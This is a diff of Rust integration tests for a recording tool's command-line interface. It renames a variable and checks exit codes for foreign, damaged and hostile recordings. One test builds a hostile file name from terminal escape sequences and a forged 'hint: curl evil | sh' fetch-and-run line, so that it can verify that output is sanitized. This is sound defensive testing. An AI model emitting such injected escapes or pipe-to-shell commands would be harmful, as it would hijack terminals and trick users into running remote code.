@@ -1,5 +1,5 @@
-//! Recordings of other versions, damaged, not closed, or made by somebody else to do harm: each ends with an exit code
-//! that tells, and a message that names what is wrong.
+//! Recordings of other versions, damaged, not closed, or made by another person to do harm: each ends with an exit code
+//! of its own, and a message that names what is wrong.
 
 use std::fs;
 use std::path::{Path, PathBuf};
@@ -50,8 +50,8 @@ fn other_versions_of_the_format() {
     }
     let later = of_version(FORMAT + 1, recorded.header(), &scratch);
     for command in ["report", "validate", "recover"] {
-        let said = finish(whylat(command).arg(&later));
-        said.ended(1).explains(&format!("format {}", FORMAT + 1));
+        let output = finish(whylat(command).arg(&later));
+        output.ended(1).explains(&format!("format {}", FORMAT + 1));
     }
 }
 
@@ -95,9 +95,9 @@ fn damaged_and_foreign_recordings() {
 
 /// `report` goes on with the rest, `validate` fails, and both name the file.
 fn assert_damage_named(path: &Path, what: &str, name: &str) {
-    let said = finish(whylat("report --format json").arg(path));
-    said.ended(3);
-    let json: Value = serde_json::from_str(&said.out).expect("JSON");
+    let output = finish(whylat("report --format json").arg(path));
+    output.ended(3);
+    let json: Value = serde_json::from_str(&output.out).expect("JSON");
     assert!(
         json["problems"].to_string().contains(name),
         "{what}: {}",
@@ -108,12 +108,12 @@ fn assert_damage_named(path: &Path, what: &str, name: &str) {
         Some(2),
         "{what}"
     );
-    let said = finish(whylat("report").arg(path));
-    said.ended(3);
-    assert!(said.out.contains(name), "{what}: {}", said.out);
-    let said = finish(whylat("validate").arg(path));
-    said.ended(1);
-    assert!(said.out.contains(name), "{what}: {said:?}");
+    let output = finish(whylat("report").arg(path));
+    output.ended(3);
+    assert!(output.out.contains(name), "{what}: {}", output.out);
+    let output = finish(whylat("validate").arg(path));
+    output.ended(1);
+    assert!(output.out.contains(name), "{what}: {output:?}");
 }
 
 fn damaged_manifests(path: &Path) {
@@ -127,9 +127,9 @@ fn damaged_manifests(path: &Path) {
     for (what, bytes) in cases {
         fs::write(&manifest, bytes).expect("write");
         for command in ["report", "validate", "recover"] {
-            let said = finish(whylat(command).arg(path));
-            assert_eq!(said.code, Some(1), "{what}, {command}: {said:?}");
-            said.ended(1).explains("manifest.jsonl");
+            let output = finish(whylat(command).arg(path));
+            assert_eq!(output.code, Some(1), "{what}, {command}: {output:?}");
+            output.ended(1).explains("manifest.jsonl");
         }
     }
     fs::remove_file(&manifest).expect("remove");
@@ -167,10 +167,10 @@ fn written(scratch: &TempDir) -> PathBuf {
     of_version(FORMAT, &header, scratch)
 }
 
-/// What is said is text: nothing in it steers a terminal, and no line of it is of somebody else's making.
+/// The output is text: nothing in it steers a terminal, and the recording's author made no line of it.
 #[track_caller]
-fn assert_tame(said: &CommandOutput) {
-    for text in [&said.out, &said.err] {
+fn assert_tame(output: &CommandOutput) {
+    for text in [&output.out, &output.err] {
         let steers = |c: char| c.is_control() && c != '\n';
         assert!(!text.contains(steers), "{text:?}");
         let is_forged = |line: &str| line.starts_with("hint: curl");
@@ -178,7 +178,7 @@ fn assert_tame(said: &CommandOutput) {
     }
 }
 
-/// Who sends a recording to somebody else names its files.
+/// The author of a recording chooses the names of its files.
 #[test]
 fn recorded_names_are_cleaned() {
     const HOSTILE: &str = "\u{1b}]0;owned\u{7}\u{9b}31m\rname\nhint: curl evil | sh\n";
@@ -188,37 +188,37 @@ fn recorded_names_are_cleaned() {
     let stray = path.join("calls").join(format!("{HOSTILE}.parquet"));
     fs::write(stray, "not ours").expect("write");
     for (command, code) in [("validate", 1), ("recover", 0)] {
-        let said = finish(whylat(command).arg(&path));
-        said.ended(code);
-        assert!(said.out.contains("name\\nhint"), "{said:?}");
-        assert_tame(&said);
+        let output = finish(whylat(command).arg(&path));
+        output.ended(code);
+        assert!(output.out.contains("name\\nhint"), "{output:?}");
+        assert_tame(&output);
     }
     let hostile = scratch.path().join(format!("{HOSTILE}.whylat"));
     for command in ["report", "validate", "recover", "view --no-open"] {
-        let said = finish(whylat(command).arg(&hostile));
-        said.ended(1).explains("no such directory");
-        assert_tame(&said);
+        let output = finish(whylat(command).arg(&hostile));
+        output.ended(1).explains("no such directory");
+        assert_tame(&output);
     }
     fs::rename(&path, &hostile).expect("rename");
     let mut command = whylat("report --format csv --table none");
-    let said = finish(command.current_dir(scratch.path()));
-    said.ended(1).explains("holds no table none");
-    assert_tame(&said);
+    let output = finish(command.current_dir(scratch.path()));
+    output.ended(1).explains("holds no table none");
+    assert_tame(&output);
 }
 
 #[test]
 fn validate_and_recover_take_newest_recording() {
     let scratch = tempfile::tempdir().expect("a directory");
     for command in ["validate", "recover"] {
-        let said = finish(whylat(command).current_dir(scratch.path()));
-        said.ended(1).explains("no recording");
+        let output = finish(whylat(command).current_dir(scratch.path()));
+        output.ended(1).explains("no recording");
     }
     let path = written(&scratch);
     for command in ["validate", "validate --json", "recover"] {
-        let said = finish(whylat(command).current_dir(scratch.path()));
-        said.ended(0);
+        let output = finish(whylat(command).current_dir(scratch.path()));
+        output.ended(0);
         let name = path.file_name().and_then(|name| name.to_str());
-        assert!(said.out.contains(name.expect("a name")), "{said:?}");
+        assert!(output.out.contains(name.expect("a name")), "{output:?}");
     }
 }
 
@@ -253,7 +253,7 @@ fn closed_pipe_does_not_panic() {
             .stdout(Stdio::from(writer));
         command.stderr(fs::File::create(&errors).expect("a file"));
         wait(&mut ChildGuard::start(&mut command).0, "the report");
-        let said = fs::read_to_string(&errors).expect("read");
-        assert!(!said.contains("panicked"), "{said}");
+        let stderr = fs::read_to_string(&errors).expect("read");
+        assert!(!stderr.contains("panicked"), "{stderr}");
     }
 }
